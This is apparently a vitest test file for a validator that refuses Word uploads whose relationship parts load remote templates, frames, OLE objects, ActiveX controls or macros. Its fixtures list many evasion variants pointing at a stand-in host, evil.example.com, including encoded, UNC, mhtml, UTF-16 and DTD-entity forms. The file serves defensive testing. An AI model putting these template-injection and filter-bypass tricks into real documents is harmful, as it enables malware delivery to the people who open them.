import { describe, expect, it } from 'vitest';
import { dangerInContentTypes, dangerInRelationships } from './relationships.ts';
import { inspect } from './testing/inspecting.ts';
import { aDocx, docxEntries } from './testing/sample-files.ts';
import { aZip } from '@clinical-hours/service-kit/testing';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
const microsoft = 'http://schemas.microsoft.com/office/2006/relationships';

const relationship = (type: string, target: string, mode = '') =>
  `<Relationship Id="rId1" Type="${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`;
const list = (...inside: string[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside.join('')}</Relationships>`;
const external = (kind: string, target: string) =>
  list(relationship(`${office}/${kind}`, target, 'External'));
const dangerOf = (xml: string | Buffer) => dangerInRelationships(Buffer.from(xml))?.code;

describe('the relationships of a Word document', () => {
  it.each([
    ['none', list()],
    ['parts of its own', list(relationship(`${office}/styles`, 'styles.xml'))],
    ['a link to a page', external('hyperlink', 'https://board.example.com/rules?a=1&amp;b=2')],
    ['a link to a share', external('hyperlink', '\\\\server\\share\\x.docx')],
    ['a picture of a page', external('image', 'https://example.com/logo.png')],
    ['a picture on the own drive', external('image', 'file:///C:\\Users\\tess\\logo.png')],
    [
      'the template of Windows',
      external('attachedTemplate', 'file:///C:\\Users\\tess\\Templates\\Resume.dotx'),
    ],
    [
      'the template of Windows, encoded',
      external('attachedTemplate', 'file:///C:/Users/tess/My%20Templates/Resume.dotx'),
    ],
    ['the template of a Mac', external('attachedTemplate', 'file:///Users/tess/Templates/Resume.dotx')],
    ['a template beside it', external('attachedTemplate', 'Normal.dotm')],
    [
      'the workbook behind a chart',
      list(relationship(`${office}/package`, '../embeddings/Microsoft_Excel_Sheet1.xlsx')),
    ],
  ])('may be %s', (_what, xml) => {
    expect(dangerOf(xml)).toBeUndefined();
  });

  it.each([
    ['a template of the web', external('attachedTemplate', 'https://evil.example.com/t.dotm')],
    ['a template of the web, in capitals', external('ATTACHEDTEMPLATE', 'HTTPS://evil.example.com/t.dotm')],
    [
      'a template of the web, in references',
      external('attachedTemplate', '&#104;ttp&#x3A;//evil.example.com/t.dotm'),
    ],
    ['a template of a share', external('attachedTemplate', '\\\\evil.example.com\\t.dotm')],
    [
      'a template of a share, as a file',
      external('attachedTemplate', 'file:///\\\\evil.example.com\\t.dotm'),
    ],
    ['a template of a share, encoded', external('attachedTemplate', 'file:///%5C%5Cevil.example.com/t.dotm')],
    ['a template of a share, with slashes', external('attachedTemplate', '//evil.example.com/t.dotm')],
    ['a template of another host', external('attachedTemplate', 'file://evil.example.com/t.dotm')],
    ['a template by another scheme', external('attachedTemplate', 'mhtml:https://evil.example.com/t')],
    ['a template in a broken encoding', external('attachedTemplate', 'file:///%E0%A4%A')],
    ['a template, with spaces', external('attachedTemplate', '  https://evil.example.com/t.dotm ')],
    [
      'a template, strictly',
      list(relationship(`${strict}/attachedTemplate`, 'https://evil.example.com/t', 'External')),
    ],
    ['a picture of a share', external('image', '\\\\evil.example.com\\x.png')],
    ['a frame', external('frame', 'https://evil.example.com/')],
    ['a part of the text', external('subDocument', 'https://evil.example.com/x.docx')],
    ['what nobody knows', external('tomorrow', 'https://evil.example.com/')],
    ['without a type', list('<Relationship Target="https://evil.example.com/" TargetMode="External"/>')],
    [
      'by another prefix',
      `<r:Relationships xmlns:r="x"><r:Relationship r:Type="a/frame" r:Target="http://x" r:TargetMode=" external "/></r:Relationships>`,
    ],
  ])('are refused with %s from elsewhere', (_what, xml) => {
    expect(dangerOf(xml)).toBe('document_remote');
  });

  it.each([
    ['an object', list(relationship(`${office}/oleObject`, 'embeddings/oleObject1.bin')), 'document_objects'],
    [
      'an object by another name',
      list(relationship(`${office}/oleObject`, 'media/image9.png')),
      'document_objects',
    ],
    ['an object from elsewhere', external('oleObject', 'https://evil.example.com/x'), 'document_objects'],
    ['a control', list(relationship(`${office}/control`, 'activeX/activeX1.xml')), 'document_objects'],
    [
      'the bytes of a control',
      list(relationship(`${microsoft}/activeXControlBinary`, 'x.bin')),
      'document_objects',
    ],
    [
      'macros by another name',
      list(relationship(`${microsoft}/vbaProject`, 'theme/theme9.xml')),
      'document_macros',
    ],
    [
      'a workbook with macros',
      list(relationship(`${office}/package`, 'embeddings/Sheet1.xlsm')),
      'document_macros',
    ],
    ['old text of another kind', list(relationship(`${office}/aFChunk`, 'chunk.rtf')), 'document_macros'],
  ])('are refused with %s', (_what, xml, code) => {
    expect(dangerOf(xml)).toBe(code);
  });

  it('are read in UTF-16, too', () => {
    const xml = external('attachedTemplate', 'https://evil.example.com/t.dotm').replace('UTF-8', 'UTF-16');
    for (const text of [`\ufeff${xml}`, xml]) {
      const bytes = Buffer.from(text, 'utf16le');
      expect(dangerOf(bytes)).toBe('document_remote');
      expect(dangerOf(Buffer.from(bytes).swap16())).toBe('document_remote');
    }
    expect(dangerOf(`\ufeff${xml}`)).toBe('document_remote');
  });

  it.each([
    ['nothing', ''],
    ['half of it', list(relationship('a', 'b')).slice(0, -5)],
    [
      'a DTD',
      `<!DOCTYPE r [<!ENTITY t "https://evil.example.com">]>${list(relationship('a/frame', '&t;', 'External'))}`,
    ],
    ['an entity', list(relationship('a', '&unknown;'))],
    ['bytes that are no text', Buffer.from([0x3c, 0x80, 0x3e])],
  ])('that are %s are no XML', (_what, xml) => {
    expect(() => dangerOf(xml)).toThrow(/\S/);
  });
});

describe('the types of the parts of a Word document', () => {
  const types = (main: string) =>
    Buffer.from(
      `<Types><Default Extension="bin" ContentType="application/vnd.x.oleObject"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
    );

  it('tell of macros by that of the text', () => {
    const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
    expect(dangerInContentTypes(types(word))).toBeUndefined();
    for (const main of ['document', 'template']) {
      const danger = dangerInContentTypes(types(`application/vnd.ms-word.${main}.macroEnabled.main+xml`));
      expect(danger?.code).toBe('document_macros');
    }
  });
});

describe('a Word document', () => {
  const part = (name: string, xml: string) => ({ name, content: Buffer.from(xml) });
  const remote = external('attachedTemplate', 'https://evil.example.com/t.dotm');

  it.each(['word/_rels/settings.xml.rels', 'WORD\\_RELS\\SETTINGS.XML.RELS', 'custom/any.rels'])(
    'that loads a template from elsewhere, says %s, is refused in a sentence',
    async (name) => {
      await expect(inspect('a.docx', aDocx([part(name, remote)]))).rejects.toMatchObject({
        kind: 'unsupported_media',
        code: 'document_remote',
        message: expect.stringMatching(/^This Word document loads a template.* Save it as PDF/),
      });
    },
  );

  it.each([
    ['word/embeddings/oleObject1.bin', 'document_objects'],
    ['word/activeX/activeX1.bin', 'document_objects'],
  ])('that has %s in it is refused', async (name, code) => {
    await expect(inspect('a.docx', aDocx([{ name }]))).rejects.toMatchObject({ code });
  });

  it('that was one with macros before it was renamed is refused', async () => {
    const types = part(
      '[Content_Types].xml',
      '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    );
    await expect(inspect('a.docx', aZip([types, ...docxEntries.slice(1)]))).rejects.toMatchObject({
      code: 'document_macros',
    });
  });

  it.each([
    ['broken', list().slice(0, -3), 'file_damaged'],
    ['far too long', list('a'.repeat(1_100_000)), 'archive_too_large'],
  ])('whose relationships are %s is refused', async (_what, xml, code) => {
    await expect(inspect('a.docx', aDocx([part('word/_rels/document.xml.rels', xml)]))).rejects.toMatchObject(
      {
        code,
      },
    );
  });

  it('whose relationships are too long together is refused', async () => {
    const parts = (count: number) =>
      Array.from({ length: count }, (_none, index) =>
        part(`word/_rels/${index}.rels`, list('a'.repeat(100_000))),
      );
    await expect(inspect('a.docx', aDocx(parts(11)))).rejects.toMatchObject({ code: 'archive_too_large' });
    await expect(inspect('a.docx', aDocx(parts(10)))).resolves.toBeDefined();
  });

  it('may have links, charts and a template of its own', async () => {
    const good = list(
      relationship(`${office}/hyperlink`, 'https://board.example.com', 'External'),
      relationship(`${office}/package`, '../embeddings/Microsoft_Excel_Sheet1.xlsx'),
      relationship(`${office}/attachedTemplate`, 'file:///C:/Templates/Resume.dotx', 'External'),
    );
    const parts = [
      part('word/_rels/document.xml.rels', good),
      { name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx' },
    ];
    await expect(inspect('a.docx', aDocx(parts))).resolves.toBeDefined();
  });
});
